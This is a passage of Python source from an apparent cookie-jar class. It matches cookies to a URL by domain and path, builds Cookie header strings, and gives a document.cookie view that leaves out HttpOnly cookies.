            if not _domain_matches(url.host, cookie.domain):
                continue
            if not url.path.startswith(cookie.path.rstrip("/") or "/"):
                continue
            matches.append(cookie)
        return matches

    def header_for(self, url: URL, now: float) -> str:
        return "; ".join(f"{c.name}={c.value}"
                         for c in self.cookies_for(url, now))

    def document_cookie_for(self, url: URL, now: float) -> str:
        """``document.cookie`` view: excludes HttpOnly cookies."""
        return "; ".join(f"{c.name}={c.value}"
                         for c in self.cookies_for(url, now)
                         if not c.http_only)

    def clear(self) -> None:
        self._cookies.clear()
        self._by_site.clear()


def _domain_matches(host: str, cookie_domain: str) -> bool:
    host = host.lower()
    domain = cookie_domain.lower().lstrip(".")
    return host == domain or host.endswith("." + domain)
